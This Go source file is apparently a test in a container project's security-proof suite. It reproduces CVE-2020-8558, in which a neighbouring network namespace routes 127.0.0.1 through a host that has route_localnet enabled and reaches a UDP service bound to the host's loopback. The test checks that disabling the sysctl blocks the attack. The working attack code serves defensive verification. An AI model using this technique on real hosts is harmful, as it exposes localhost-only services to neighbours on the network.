package main

import (
	"errors"
	"fmt"
	"net"
	"os/exec"
	"time"

	"golang.org/x/sys/unix"

	"mydocker.example/shared/proof"
)

// localnet: one switch, set for convenience, and 127.0.0.1 is no longer private
// (CVE-2020-8558).
var localnet = proof.Proof{
	ID: "localnet",
	Attack: &proof.Attack{
		Prepare: prepareLocal,
		Without: func(*exec.Cmd) error { return routeLocalnet("1") },
		With:    func(*exec.Cmd) error { return routeLocalnet("0") },
		Run:     reachLocal,
		Errno:   unix.EAGAIN, // nothing comes back: the kernel calls the packet a martian
	},
}

// localScene is for what is set in the same process after Prepare.
var localScene *machine

func prepareLocal(r *proof.Report) (cleanup func(), err error) {
	m, err := newMachine()
	if err != nil {
		return nil, err
	}
	cleanup = m.close
	localScene = m
	if err := m.addWorld(); err != nil {
		return cleanup, err
	}
	err = m.host.do(func() error {
		// A service of the host for the host: bound to 127.0.0.1, for the world has no business
		// with it.
		l, err := net.ListenPacket("udp4", "127.0.0.1:6000")
		if err != nil {
			return err
		}
		cleanup = func() { l.Close(); m.close() }
		go func() {
			buf := make([]byte, 100)
			for {
				_, from, err := l.ReadFrom(buf)
				if err != nil {
					return
				}
				l.WriteTo([]byte("for the host only"), from)
			}
		}()
		return nil
	})
	r.Saw("", "the host: a service on", "127.0.0.1:6000")
	r.Pass("world", m.world.path())
	return cleanup, err
}

// routeLocalnet is what a rule "dnat 127.0.0.1:8080 to the container" would need.
func routeLocalnet(value string) error {
	return localScene.host.do(func() error { return sysctl("ipv4/conf/all/route_localnet", value) })
}

// reachLocal is a neighbour on the same wire. It tells its own kernel that 127.0.0.1 is
// somewhere else: at the host.
func reachLocal(a *proof.Attacker) error {
	if err := enterPath(a.Get("world")); err != nil {
		return err
	}
	err := errors.Join(
		sysctl("ipv4/conf/all/route_localnet", "1"), // at home one may do anything
		addRoute("eth0", "127.0.0.1/32", outerAddr),
	)
	if err != nil {
		return err
	}
	a.Saw("the neighbour: ip route add", "127.0.0.1/32 via "+outerAddr)
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("socket(AF_INET, SOCK_DGRAM): %w", err)
	}
	defer unix.Close(fd)
	if err := timeout(fd, 400*time.Millisecond); err != nil {
		return err
	}
	buf := make([]byte, 100)
	for range 5 { // UDP may get lost
		if err := unix.Sendto(fd, []byte("?"), 0, &unix.SockaddrInet4{Port: 6000, Addr: [4]byte{127, 0, 0, 1}}); err != nil {
			return fmt.Errorf("sendto(127.0.0.1:6000): %w", err)
		}
		var n int
		if n, _, err = unix.Recvfrom(fd, buf, 0); err == nil {
			a.Saw("the neighbour: recvfrom(127.0.0.1:6000)", string(buf[:n]))
			return nil
		}
	}
	return fmt.Errorf("recvfrom(127.0.0.1:6000): %w", err)
}

// enterPath moves the attacker, whose thread is its own and locked, into a namespace.
func enterPath(path string) error {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open(%q): %w", path, err)
	}
	defer unix.Close(fd)
	if err := unix.Setns(fd, unix.CLONE_NEWNET); err != nil {
		return fmt.Errorf("setns(%q, CLONE_NEWNET): %w", path, err)
	}
	return nil
}
